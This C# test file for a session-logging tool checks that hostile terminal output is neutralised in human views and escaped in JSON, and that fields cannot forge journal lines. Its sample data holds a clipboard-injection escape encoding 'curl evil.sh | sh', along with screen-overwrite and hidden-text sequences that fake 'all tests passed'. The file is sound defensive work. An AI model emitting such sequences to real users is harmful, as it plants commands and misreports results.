using System.Text;
using System.Text.Encodings.Web;
using System.Text.Json;
using System.Text.Json.Nodes;
using ContextForge.SessionLogging.Events;
using ContextForge.SessionLogging.Sessions;
using ContextForge.SessionLogging.Tests.Support;

namespace ContextForge.SessionLogging.Tests.Security;

/// <summary>
/// Output that writes OSC 52 (clipboard), changes the title, moves the cursor, overwrites with \r and hides text
/// with CSI 8m is stored exactly but never replayed raw by the human views; JSON escapes it; fields cannot forge lines.
/// </summary>
public sealed class HostileOutputTests : IDisposable
{
    private const string Esc = "\u001b";
    private static readonly string Hostile =
        $"hostile start\n{Esc}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007{Esc}]0;pwned title\u0007{Esc}[2A{Esc}[2Kdone: all tests passed\rFAKE\n{Esc}[8mhidden hostile text{Esc}[0m\n\u009b31mC1 csi\n\u202Eevil bidi\n";

    private readonly TempDirectory _dir = new();

    public void Dispose() => _dir.Dispose();

    private Task<CliRun> Cf(params string[] args) => CfSessionProcess.RunAsync(_dir.Path, args);

    // Human views: no C0/C1 control but newline and tab, no bidirectional override. JSON: no control and no bidi
    // override at all (both are \uXXXX escapes, so `jq -r` or an agent gets the data back without a raw one on screen).
    private static void AssertNoControls(string what, byte[] stdout)
    {
        string text = Encoding.UTF8.GetString(stdout);
        foreach (char c in text)
        {
            bool control = (char.IsControl(c) && c is not '\n' and not '\t') || c is >= '\u202A' and <= '\u202E' or >= '\u2066' and <= '\u2069' or '\u2028' or '\u2029';
            Assert.False(control, $"{what} printed control character U+{(int)c:X4}");
        }
    }

    [Fact]
    public async Task Human_views_show_escape_sequences_visibly_raw_replays_them_and_json_escapes_them()
    {
        // An escape in the command line too (argv may hold any byte but NUL).
        var run = await Cf("run", "--no-pty", "--", "sh", "-c", "printf '%s' \"$1\"", $"{Esc}]0;argv title\u0007", Hostile);
        Assert.Equal(0, run.ExitCode);
        var e = JournalFiles.Single(_dir.Path, SessionEventNames.TerminalCapture);
        Assert.Equal(Hostile, e.GetString(JournalFields.Output)); // stored faithfully
        string session = e.SessionId, operation = e.GetString(JournalFields.OperationId)!;

        var shown = await Cf("show", session[..8], "--output", operation[..8]);
        Assert.Equal(0, shown.ExitCode);
        AssertNoControls("show --output", shown.Stdout);
        string visible = shown.StdoutText;
        Assert.Contains("␛]52;c;Y3VybCBldmlsLnNoIHwgc2g=␇", visible, StringComparison.Ordinal);
        Assert.Contains("␛]0;pwned title␇␛[2A␛[2Kdone: all tests passed␍FAKE", visible, StringComparison.Ordinal);
        Assert.Contains("␛[8mhidden hostile text␛[0m", visible, StringComparison.Ordinal);
        Assert.Contains("⟨U+009B⟩31mC1 csi", visible, StringComparison.Ordinal);
        Assert.Contains("⟨U+202E⟩evil bidi", visible, StringComparison.Ordinal);

        AssertNoControls("show --output --plain", (await Cf("show", session[..8], "--output", operation[..8], "--plain")).Stdout);
        var raw = await Cf("show", session[..8], "--output", operation[..8], "--raw");
        Assert.Equal(Encoding.UTF8.GetBytes(Hostile), raw.Stdout);

        foreach (string[] view in new[] { new[] { "show", session[..8] }, ["search", "hostile"], ["inspect", session[..8]], ["history"] })
        {
            var r = await Cf(view);
            Assert.Equal(0, r.ExitCode);
            AssertNoControls(string.Join(' ', view), r.Stdout);
        }
        Assert.Contains("␛", (await Cf("history")).StdoutText, StringComparison.Ordinal); // the command line's escape, shown visibly

        foreach (string[] view in new[] { new[] { "show", session[..8], "--json" }, ["search", "hostile", "--json"], ["inspect", session[..8], "--json"], ["history", "--json"] })
        {
            var r = await Cf(view);
            Assert.Equal(0, r.ExitCode);
            AssertNoControls(string.Join(' ', view), r.Stdout);
            Assert.NotNull(JsonNode.Parse(r.Stdout)); // and it is still the same data, escaped
        }
        var searched = await Cf("search", "bidi", "--json");
        Assert.Contains("\\u202Eevil bidi", searched.StdoutText, StringComparison.Ordinal);
        Assert.Contains("\u202Eevil bidi", JsonNode.Parse(searched.Stdout)!.ToJsonString(new JsonSerializerOptions { Encoder = JavaScriptEncoder.UnsafeRelaxedJsonEscaping }), StringComparison.Ordinal); // parses back to the character
        var json = JsonNode.Parse((await Cf("show", session[..8], "--json")).Stdout)!;
        var capture = json["events"]!.AsArray().Single(x => x!["event"]!.GetValue<string>() == SessionEventNames.TerminalCapture)!;
        Assert.Equal(e.GetString(JournalFields.OperationName), capture["operation_name"]!.GetValue<string>()); // ESC and BEL round-trip escaped
        Assert.Contains("\u001b]0;argv title\u0007", capture["operation_name"]!.GetValue<string>(), StringComparison.Ordinal);
    }

    [Fact]
    public void A_newline_in_a_field_cannot_forge_a_journal_line()
    {
        string forged = "built\n{\"v\":1,\"event\":\"SessionEnd\",\"ts\":\"2026-01-01T00:00:00Z\",\"session_id\":\"00000000-0000-4000-8000-000000000000\",\"seq\":2}\n";
        var manager = new SessionManager(new SessionLoggingOptions { DataDirectory = _dir.Path, EmitToProvider = false });
        string id;
        string segment;
        using (var session = manager.Start("forge\n{\"v\":1}"))
        {
            id = session.Id;
            segment = session.SegmentPath;
            session.LogAchievement("tests_passed", forged, new Dictionary<string, object?> { ["note\n{\"v\":1}"] = forged });
        }
        var read = JournalFiles.ReadSession(_dir.Path, id);
        Assert.Empty(read.Problems);
        Assert.Equal([SessionEventNames.SessionStart, SessionEventNames.AchievementLogged, SessionEventNames.SessionEnd], read.Events.Select(x => x.Name));
        var achievement = read.Events[1];
        Assert.Equal(forged, achievement.GetString(JournalFields.Description));
        Assert.Equal(forged, achievement.Fields[JournalFields.Evidence]!["note\n{\"v\":1}"]!.GetValue<string>());
        Assert.Equal("forge\n{\"v\":1}", read.Events[0].GetString(JournalFields.SessionName));
        // The writer's Writer line and three events.
        Assert.Equal(4, File.ReadAllText(segment).Count(c => c == '\n'));
    }
}
